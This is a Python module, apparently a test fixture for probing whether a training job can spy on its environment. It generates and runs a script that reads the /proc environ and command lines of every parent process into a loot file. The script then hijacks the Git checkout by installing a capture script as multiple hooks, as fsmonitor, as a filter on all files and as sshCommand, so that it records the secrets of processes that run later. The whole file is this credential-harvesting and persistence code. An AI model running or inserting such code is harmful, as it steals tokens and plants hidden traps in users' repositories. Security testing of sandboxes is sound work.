"""A training that looks for tokens around it, and leaves traps for what runs after it."""

from __future__ import annotations

from pathlib import Path

_SPY = '''\
import os, pathlib, subprocess

LOOT = pathlib.Path({loot!r})


def look():
    """All that the processes above this one were started with."""
    pid = os.getpid()
    with LOOT.open("ab") as loot:
        while pid > 1:
            for name in ("environ", "cmdline"):
                try:
                    loot.write(pathlib.Path(f"/proc/{{pid}}/{{name}}").read_bytes() + b"\\0")
                except OSError:
                    pass
            try:
                status = pathlib.Path(f"/proc/{{pid}}/status").read_text()
            except OSError:
                break
            pid = int(status.split("PPid:")[1].split()[0])


def plant():
    """What Git runs by itself, in the checkout."""
    top = pathlib.Path(
        subprocess.check_output(["git", "rev-parse", "--absolute-git-dir"], text=True).strip()
    )
    trap = top / "trap"
    # In plain shell: the Python of this job is gone when the trap is sprung.
    around = "cat /proc/self/environ /proc/$PPID/environ /proc/$PPID/cmdline"
    trap.write_text(f"#!/bin/sh\\n{{around}} >>{loot!r} 2>/dev/null\\ncat\\n")
    trap.chmod(0o755)
    for hook in ("post-checkout", "reference-transaction", "pre-push", "post-index-change"):
        (top / "hooks").mkdir(exist_ok=True)
        (top / "hooks" / hook).write_text(trap.read_text().replace("cat\\n", ""))
        (top / "hooks" / hook).chmod(0o755)
    (top / "info").mkdir(exist_ok=True)
    (top / "info" / "attributes").write_text("* filter=spy\\n")
    for key in ("core.fsmonitor", "filter.spy.clean", "filter.spy.smudge", "core.sshCommand"):
        subprocess.run(["git", "config", key, str(trap)], check=True)


look()
plant()
'''


def spy(root: Path) -> tuple[str, Path]:
    """The lines of Python with which a training looks around and sets traps, and the file in which
    all of it ends up.
    """
    loot, program = root / "loot", root / "spy.py"
    program.write_text(_SPY.format(loot=str(loot)))
    loot.write_bytes(b"")
    run = (
        f"import subprocess, sys\nsubprocess.run([sys.executable, {str(program)!r}], check=True)\n"
    )
    return run, loot
